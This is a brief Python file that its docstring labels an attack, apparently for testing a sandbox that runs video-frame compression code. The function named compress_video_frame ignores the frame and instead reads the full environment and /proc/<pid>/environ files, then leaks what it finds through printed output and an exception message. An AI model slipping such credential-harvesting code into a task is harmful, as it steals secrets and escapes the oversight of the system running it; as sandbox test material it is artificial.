"""Attack: read a secret environment variable through os.environ and /proc/*/environ."""
import os


def compress_video_frame(frame, frame_index, config):
    found = [repr(dict(os.environ))]
    for pid in ("1", "self", "2", "3"):
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                found.append(fh.read().decode("utf-8", "replace"))
        except OSError as exc:
            found.append(f"{pid}: {type(exc).__name__}")
    print(found)
    raise RuntimeError("environment: " + " | ".join(found))


def decompress_video_frame(compressed_data, frame_index, config):
    raise RuntimeError("unreachable")
